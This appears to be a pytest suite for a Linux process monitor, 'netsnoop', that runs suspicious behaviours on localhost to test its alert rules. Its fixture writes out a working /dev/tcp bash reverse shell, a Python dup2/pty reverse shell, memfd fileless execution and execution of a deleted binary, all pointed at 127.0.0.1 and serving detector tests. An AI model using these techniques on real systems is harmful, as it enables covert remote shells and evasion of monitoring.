"""Findings on new processes, made to happen for real: a reverse shell, programs run
from /dev/shm and /tmp, a deleted binary, a memfd exec, a shell under a listening
service, a program not in the baseline -- and a login shell in a terminal and a
program in /usr/bin that must stay silent.  One feed watches all of them (a module
fixture); each test reads the events of its own scenario."""
import json
import os
import pathlib
import pty
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid

import pytest

from conftest import NETSNOOP, python_for_nobody
from feedrun import JsonFeed as Feed

SLEEP = os.path.realpath(shutil.which("sleep") or "/bin/sleep")
BASH = shutil.which("bash")
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]


def marker():
    return "nsalert-%s" % uuid.uuid4().hex[:10]


def rules_of(event, severity=None):
    return {f["rule"] for f in event.get("findings", ())
            if severity is None or f["severity"] == severity}


def with_arg(text):
    return lambda e: any(text in arg for arg in e.get("cmdline") or ())


# --- the scenarios ---------------------------------------------------------------------

LISTENER = """
import socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
print(s.getsockname()[1], flush=True)
c, _ = s.accept()
time.sleep(float(sys.argv[1]))
c.sendall(b"exit\\n"); time.sleep(0.2)
"""

SERVICE = """
import socket, subprocess, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
subprocess.run(["sh", "-c", "sleep 0.5 # " + sys.argv[1]])
"""

PTY_SHELL = """
import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["sh", "-c", "sleep 0.5 # " + sys.argv[2]])
"""

NAMED_SERVER = """
import subprocess, sys
with open("/proc/self/comm", "w") as f:      # named like a web server, listening on nothing
    f.write("nginx")
subprocess.run(["sh", "-c", "sleep 0.3 # " + sys.argv[1]])
"""

DELETED = """
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
os.unlink(sys.argv[1])
os.execve(fd, [sys.argv[2], "0.5"], {})
"""

MEMFD = """
import os, sys
fd = os.memfd_create(sys.argv[2])
with open(sys.argv[1], "rb") as f:
    os.write(fd, f.read())
os.execv("/proc/self/fd/%d" % fd, [sys.argv[2], "0.5"])
"""


def login_shell_in_a_terminal():
    """bash as a login shell ("-bash") on a pseudo-terminal, as a terminal gives it."""
    pid, fd = pty.fork()
    if pid == 0:
        os.execv(BASH, ["-bash", "--norc", "--noprofile"])
    return pid, fd


@pytest.fixture(scope="module")
def scenarios(tmp_path_factory):
    """Runs every scenario under one feed (with a baseline of the system's programs)."""
    if BASH is None:
        pytest.skip("needs bash")
    tmp = tmp_path_factory.mktemp("alerts")
    baseline = tmp / "baseline.json"
    system = sorted({os.path.realpath(os.path.join(d, n)) for d in ("/usr/bin", "/bin")
                     for n in os.listdir(d)})
    baseline.write_text(json.dumps({"netsnoop": "baseline", "version": 1,
                                    "programs": system}))
    os.chmod(str(baseline), 0o600)
    feed = Feed(tmp, "--baseline", baseline)
    out = {"tmp": tmp, "baseline": baseline}
    try:
        # silent ones first, while the test process listens on nothing
        pid, fd = login_shell_in_a_terminal()
        out["login"] = pid
        out["usr_bin"] = marker()
        subprocess.run([out["usr_bin"], "0.2"], executable=SLEEP)
        feed.wait_for(lambda e: e["pid"] == pid)
        os.write(fd, b"exit\n")
        os.waitpid(pid, 0)
        os.close(fd)

        listener = subprocess.Popen([sys.executable, "-c", LISTENER, "1.0"],
                                    stdout=subprocess.PIPE, universal_newlines=True)
        port = int(listener.stdout.readline())
        outer = subprocess.Popen([BASH, "-c", "bash --norc -i >& /dev/tcp/127.0.0.1/%d 0>&1"
                                  % port])
        out["revshell"] = outer.pid

        listener2 = subprocess.Popen([sys.executable, "-c", LISTENER, "3.0"],
                                     stdout=subprocess.PIPE, universal_newlines=True)
        out["pty_shell"] = marker()
        subprocess.run([sys.executable, "-c", PTY_SHELL, listener2.stdout.readline().strip(),
                        out["pty_shell"]], timeout=30)
        listener2.kill()
        listener2.wait()

        out["service"] = marker()
        subprocess.run([sys.executable, "-c", SERVICE, out["service"]], timeout=30)

        out["named"] = marker()
        subprocess.run([sys.executable, "-c", NAMED_SERVER, out["named"]], timeout=30)

        out["shm"], out["tmp_copy"] = marker(), marker()
        for directory, name in (("/dev/shm", out["shm"]), ("/tmp", out["tmp_copy"])):
            path = os.path.join(directory, name)
            shutil.copy(SLEEP, path)
            try:
                subprocess.run([path, "0.3"])
            finally:
                os.unlink(path)

        out["deleted"] = marker()
        copy = str(tmp / "sleep-copy")
        shutil.copy(SLEEP, copy)
        subprocess.run([sys.executable, "-c", DELETED, copy, out["deleted"]], timeout=30)

        out["memfd"] = marker()
        subprocess.run([sys.executable, "-c", MEMFD, SLEEP, out["memfd"]], timeout=30)

        outer.wait(30)
        listener.wait(30)
    finally:
        feed.stop()
    out["events"] = feed.lines()
    out["stderr"] = feed.stderr
    return out


def the_event(scenarios, predicate):
    """The full records matching predicate (partial ones, without a command line, are
    another test's matter)."""
    found = [e for e in scenarios["events"] if e.get("event") in ("new", "exec")
             and e.get("cmdline") is not None and predicate(e)]
    assert found, "scenario not reported: %s" % scenarios["stderr"]
    return found


def test_reverse_shell_is_socket_stdio_alert(scenarios):
    """A bash whose stdin and stdout are a TCP socket to a local listener."""
    outer = scenarios["revshell"]
    shells = the_event(scenarios, lambda e: (e["pid"] == outer or e["ppid"] == outer)
                       and e["cmdline"][:2] == ["bash", "--norc"])
    assert any("socket-stdio" in rules_of(e, "alert") for e in shells), shells
    finding = [f for e in shells for f in e["findings"] if f["rule"] == "socket-stdio"][0]
    assert finding["text"].startswith("stdin, stdout and stderr are a TCP socket"), finding


def shells_of_the_server(scenarios, mark):
    """The sh events whose parent is the scenario's server (the python process whose
    argv holds mark).  Not any sh with mark in its argv: sh may fork a copy of itself
    for its command, and that copy, a shell started by a shell, must stay silent."""
    ev = the_event(scenarios, with_arg(mark))
    # the server is the python this test process started (its fork, before the exec of
    # sh, shows the same argv: it is not a server)
    servers = set(e["pid"] for e in ev if e["comm"] != "sh" and e["ppid"] == os.getpid())
    return [e for e in ev if e["comm"] == "sh" and e["ppid"] in servers], ev


def test_shell_on_a_pty_under_a_socket_parent_is_socket_stdio_alert(scenarios):
    """python's reverse shell: dup2 of the socket, then pty.spawn: the shell's own stdio
    is the pty, its parent's the TCP socket."""
    sh, ev = shells_of_the_server(scenarios, scenarios["pty_shell"])
    assert sh and all("socket-stdio" in rules_of(e, "alert") for e in sh), ev
    assert "through a pseudo-terminal" in [f for f in sh[0]["findings"]
                                           if f["rule"] == "socket-stdio"][0]["text"]


def test_outer_shell_of_the_reverse_shell_is_silent(scenarios):
    """`bash -c ...` itself has pipes/tty on stdio and a parent that listens on nothing."""
    outer = the_event(scenarios, lambda e: e["pid"] == scenarios["revshell"]
                      and "-c" in e["cmdline"])
    assert rules_of(outer[0]) == set(), outer[0]["findings"]


def test_program_in_dev_shm_is_writable_dir_alert(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [
        os.path.join("/dev/shm", scenarios["shm"])])[0]
    assert "writable-dir-exe" in rules_of(ev, "alert"), ev["findings"]


def test_program_in_tmp_is_writable_dir_warn(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [
        os.path.join("/tmp", scenarios["tmp_copy"])])[0]
    assert "writable-dir-exe" in rules_of(ev, "warn"), ev["findings"]
    assert "/tmp" in [f for f in ev["findings"] if f["rule"] == "writable-dir-exe"][0]["text"]


def test_binary_deleted_after_start_is_deleted_exe(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [scenarios["deleted"]])[0]
    assert ev["exe"].endswith(" (deleted)"), ev
    assert "deleted-exe" in rules_of(ev, "warn"), ev["findings"]


def test_memfd_exec_is_memfd_exe_alert(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [scenarios["memfd"]])[0]
    assert "memfd-exe" in rules_of(ev, "alert"), ev["findings"]
    assert "deleted-exe" not in rules_of(ev), "a memfd is not a deleted file"


def test_shell_under_a_listening_service_is_shell_from_service(scenarios):
    sh, ev = shells_of_the_server(scenarios, scenarios["service"])
    assert sh and all("shell-from-service" in rules_of(e, "alert") for e in sh), ev
    assert "listens on TCP port" in [f for f in sh[0]["findings"]
                                     if f["rule"] == "shell-from-service"][0]["text"]


def test_shell_under_a_server_by_name_is_shell_from_service_warn(scenarios):
    """Parent named nginx that listens on nothing: warn (by name), not alert."""
    sh, ev = shells_of_the_server(scenarios, scenarios["named"])
    assert sh and all("shell-from-service" in rules_of(e, "warn") for e in sh), ev
    assert not any("shell-from-service" in rules_of(e, "alert") for e in sh)


def test_program_not_in_baseline_is_first_seen_once_and_added(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [
        os.path.join("/tmp", scenarios["tmp_copy"])])[0]
    assert "first-seen" in rules_of(ev, "warn"), ev["findings"]
    with open(str(scenarios["baseline"])) as f:
        kept = json.load(f)["programs"]
    assert os.path.join("/tmp", scenarios["tmp_copy"]) in kept
    assert oct(os.stat(str(scenarios["baseline"])).st_mode & 0o777) == "0o600"


def test_login_shell_in_a_terminal_is_silent(scenarios):
    """No rule fires on a login shell: pty on stdio, parent listens on nothing, in baseline."""
    ev = the_event(scenarios, lambda e: e["pid"] == scenarios["login"]
                   and e["cmdline"][:1] == ["-bash"])[0]
    assert ev["findings"] == [], ev["findings"]


def test_program_in_usr_bin_is_silent(scenarios):
    ev = the_event(scenarios, lambda e: e["cmdline"][:1] == [scenarios["usr_bin"]])[0]
    assert ev["exe"] == SLEEP
    assert ev["findings"] == [], ev["findings"]


def test_summary_gives_the_rules_cost_per_event(scenarios):
    summary = [e for e in scenarios["events"] if e.get("event") == "summary"][0]
    assert 0 < summary["findings_cost_us"] < 20000, summary


# --- the baseline's life --------------------------------------------------------------

def test_absent_baseline_is_learned_without_findings_then_created(tmp_path):
    baseline = tmp_path / "learned.json"
    copy = str(tmp_path / marker())
    shutil.copy(SLEEP, copy)
    feed = Feed(tmp_path, "--baseline", baseline)
    subprocess.run([copy, "0.1"])
    feed.wait_for(lambda e: e.get("exe") == copy)
    feed.stop()
    ev = [e for e in feed.events() if e.get("exe") == copy]
    assert ev and "first-seen" not in rules_of(ev[0]), ev
    kept = json.loads(baseline.read_text())["programs"]
    assert copy in kept and os.path.realpath(sys.executable) in kept   # seen, and running
    assert oct(os.stat(str(baseline)).st_mode & 0o777) == "0o600"


def test_baseline_writable_by_others_is_refused(tmp_path):
    baseline = tmp_path / "b.json"
    baseline.write_text('{"netsnoop": "baseline", "version": 1, "programs": []}')
    os.chmod(str(baseline), 0o666)
    r = subprocess.run([sys.executable, NETSNOOP, "--procs", "--baseline", str(baseline),
                        "--duration", "1"], stderr=subprocess.PIPE, universal_newlines=True)
    assert r.returncode == 1 and "others may write" in r.stderr, r.stderr


# --- what cannot be read is said ---------------------------------------------------------

@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"),
                    reason="needs root and setpriv to run the feed as nobody")
def test_other_users_fds_give_cannot_tell_not_silence(request):
    python = python_for_nobody("json")
    if python is None:
        pytest.skip("no Python that nobody can run")
    public = pathlib.Path(tempfile.mkdtemp(prefix="netsnoop-nobody-"))   # tmp_path is 0700
    request.addfinalizer(lambda: shutil.rmtree(str(public), ignore_errors=True))
    os.chmod(str(public), 0o777)
    shutil.copy(NETSNOOP, str(public / "netsnoop.py"))
    mark = marker()
    out = public / "out.json"
    with open(str(out), "w") as f:
        feed = subprocess.Popen(NOBODY + [python, str(public / "netsnoop.py"), "--procs",
                                          "--json", "--duration", "3"],
                                stdout=f, stderr=subprocess.PIPE, universal_newlines=True)
        assert "watching" in feed.stderr.readline()
        subprocess.run([mark, "0.3"], executable=SLEEP)        # root's process
        feed.wait(20)
    ev = [json.loads(line) for line in open(str(out))]
    ev = [e for e in ev if (e.get("cmdline") or [None])[:1] == [mark]]
    assert ev, "root's process not reported"
    said = {f["rule"]: f for f in ev[0]["findings"]}
    assert said["socket-stdio"]["text"].startswith("cannot tell"), ev[0]
    assert "root" in said["socket-stdio"]["text"]
    assert said["deleted-exe"]["severity"] == "info"


def test_text_feed_ends_the_line_with_warn_and_alert_findings(tmp_path):
    """The text line keeps its columns and adds '  !! SEVERITY RULE: TEXT' (escaped)."""
    mark = marker()
    name = mark + "\x1b[31m"
    path = os.path.join("/dev/shm", name)
    shutil.copy(SLEEP, path)
    feed = subprocess.Popen([sys.executable, NETSNOOP, "--procs", "--filter", mark],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            universal_newlines=True)
    try:
        assert "watching" in feed.stderr.readline()
        subprocess.run([path, "0.2"])
        time.sleep(0.3)
    finally:
        os.unlink(path)
        feed.send_signal(signal.SIGTERM)
    out = feed.communicate(timeout=20)[0]
    lines = [line for line in out.splitlines() if mark in line]
    assert len(lines) == 1, out
    assert "0.2  !! alert writable-dir-exe: runs %s\\e[31m from /dev/shm" % mark in lines[0]
    assert "\x1b" not in out


def test_partial_record_of_a_shell_gets_cannot_tell_not_a_crash():
    """A shell gone before it could be read (a partial record: pid and ppid null) took
    the feed down with a TypeError in shell-from-service (found by a fork storm)."""
    import netsnoop
    rules = netsnoop.ProcRules(netsnoop.ProcFS("/proc"))
    event = {"event": "new", "pid": None, "ppid": None, "uid": None, "comm": "sh",
             "cmdline": None, "exe": "/usr/bin/dash", "partial": True}
    found = {f["rule"]: f for f in rules.apply(event)["findings"]}
    assert found["shell-from-service"]["text"].startswith("cannot tell: its parent is unknown")
    assert found["shell-from-service"]["severity"] == "info"
